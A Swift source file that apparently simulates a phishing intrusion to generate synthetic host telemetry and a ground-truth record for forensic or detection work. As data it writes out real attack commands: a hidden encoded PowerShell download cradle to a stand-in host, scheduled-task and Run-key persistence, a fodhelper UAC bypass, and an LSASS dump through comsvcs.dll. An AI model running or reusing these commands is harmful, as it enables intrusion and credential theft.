import Vocabulary

/// The acts on the workstation: the way in, and what is needed to leave it.
extension IntrusionStory {
    mutating func openDocument() -> Process {
        begin(.macroDocument, hours: 4, minutes: 41)
        let document =
            "C:\\Users\\jmoreau\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\K3W9QZ1T\\Invoice_2231.docm"
        stage.workstation.createFile(document, by: desk.mail, at: now)
        let word = stage.workstation.start(
            "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
            "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE\" /n \"\(document)\" /o \"\"",
            by: desk.mail, at: after(3...9))
        let script =
            "IEX (New-Object Net.WebClient).DownloadString('http://\(Self.delivery.name)/u/' + $env:COMPUTERNAME)"
        let loader = stage.workstation.start(
            Tool.powerShell, "powershell.exe -nop -w hidden -enc \(encodedCommand(script))", by: word,
            in: "C:\\Users\\jmoreau\\Documents\\", at: after(8...25))
        let implantPath = Tool.implant
        truth.patientZero = TechniqueID("T1566.001").map {
            Truth.PatientZero(
                host: stage.world.workstation.name, technique: $0, entry: "Invoice_2231.docm, by mail", time: now)
        }
        fell(stage.world.workstation, from: nil, by: "macro document")
        used(stage.world.user)
        stage.workstation.runScript(script, in: loader, suspicious: true, at: after(1...2))
        stage.workstation.resolve(Self.delivery.name, to: Self.delivery.address, by: loader, at: after(1...2))
        stage.workstation.connect(
            loader, from: stage.workstation.freshPort(), to: Self.delivery.address, name: Self.delivery.name, port: 80,
            at: now.advanced(byMilliseconds: 90))
        stage.workstation.createFile(implantPath, by: loader, at: after(2...5))
        let implant = stage.workstation.start(
            implantPath, "\"\(implantPath)\"", by: loader, in: "C:\\Users\\jmoreau\\AppData\\Roaming\\",
            at: after(1...3))
        stage.workstation.end(loader, at: after(2...4))
        tool(implantPath, on: stage.world.workstation)
        truth.commandAndControl = [
            Self.delivery.name, Self.delivery.address, Self.control.name, Self.control.address,
        ]
        truth.exfiltration = [Self.storage.name, Self.storage.address]
        return implant
    }

    mutating func persist(_ implant: Process) {
        begin(.persistence)
        let user = stage.world.user
        stage.workstation.setRegistry(
            "HKU\\\(user.sid)\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\OneDriveSync", to: implant.image,
            by: implant, at: after(20...60))
        _ = stage.workstation.start(
            Tool.schtasks, "schtasks /create /f /sc onlogon /tn OneDriveSync /tr \"\(implant.image)\"", by: implant,
            at: after(5...20))
        stage.workstation.createTask(
            "\\OneDriveSync", command: implant.image, by: implant.session, at: now.advanced(byMilliseconds: 210))
    }

    /// The implant calls home about every half hour, until the users come back on the second day.
    mutating func beacon(_ implant: Process) {
        begin(.commandAndControl)
        let story = now
        now = now.advanced(bySeconds: 30)
        while now < stage.moment(hours: 26) {
            stage.workstation.resolve(Self.control.name, to: Self.control.address, by: implant, at: now)
            stage.workstation.connect(
                implant, from: stage.workstation.freshPort(), to: Self.control.address, name: Self.control.name,
                port: 443, at: now.advanced(byMilliseconds: 60))
            now = after(1_500...2_100)
        }
        now = story
    }

    mutating func discover(_ implant: Process) {
        begin(.discovery, hours: 5, minutes: 16)
        let commands = [
            (Tool.system("whoami.exe"), "whoami /all"), (Tool.system("ipconfig.exe"), "ipconfig /all"),
            (Tool.system("systeminfo.exe"), "systeminfo"),
            (Tool.system("net.exe"), "net group \"Domain Admins\" /domain"),
            (Tool.system("nltest.exe"), "nltest /dclist:\(stage.world.domain.name)"),
            (Tool.system("net.exe"), "net view \\\\\(stage.world.fileServer.name) /all"),
        ]
        for (image, command) in commands {
            let shell = stage.workstation.start(Tool.shell, "cmd.exe /c \(command)", by: implant, at: after(15...70))
            let child = stage.workstation.start(image, command, by: shell, at: now.advanced(byMilliseconds: 40))
            stage.workstation.end(child, at: now.advanced(byMilliseconds: 900))
            stage.workstation.end(shell, at: now.advanced(byMilliseconds: 930))
        }
        let listing = stage.workstation.start(
            Tool.system("net.exe"), "net localgroup administrators", by: implant, at: after(15...70))
        let second = stage.workstation.start(
            Tool.system("net1.exe"), "C:\\Windows\\system32\\net1 localgroup administrators", by: listing,
            at: now.advanced(byMilliseconds: 30))
        stage.workstation.listAdministrators(by: second, at: now.advanced(byMilliseconds: 55))
    }

    mutating func elevate(_ implant: Process) -> Process {
        begin(.elevation, hours: 6, minutes: 52)
        let key = "HKU\\\(stage.world.user.sid)_Classes\\ms-settings\\shell\\open\\command\\"
        stage.workstation.setRegistry(key + "(Default)", to: implant.image, by: implant, at: now)
        stage.workstation.setRegistry(key + "DelegateExecute", to: "(Empty)", by: implant, at: after(1...2))
        let helper = stage.workstation.start(
            Tool.system("fodhelper.exe"), "\"C:\\Windows\\System32\\fodhelper.exe\"", by: implant, integrity: .high,
            at: after(1...3))
        return stage.workstation.start(implant.image, "\"\(implant.image)\"", by: helper, at: after(1...2))
    }

    mutating func stealCredentials(_ elevated: Process) {
        begin(.credentialTheft, hours: 7, minutes: 5)
        let dump = "C:\\Users\\Public\\lsass.dmp"
        let target = stage.workstation.securityAuthority
        let dumper = stage.workstation.start(
            Tool.system("rundll32.exe"),
            "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump \(target.id) \(dump) full", by: elevated,
            at: now)
        stage.workstation.open(
            target, by: dumper, access: 0x1F_FFFF, trace: Tool.dumpTrace + "|C:\\Windows\\System32\\comsvcs.dll+2a51",
            at: now.advanced(byMilliseconds: 160))
        stage.workstation.createFile(dump, by: dumper, at: now.advanced(byMilliseconds: 190))
        stage.workstation.end(dumper, at: after(3...6))
    }
}
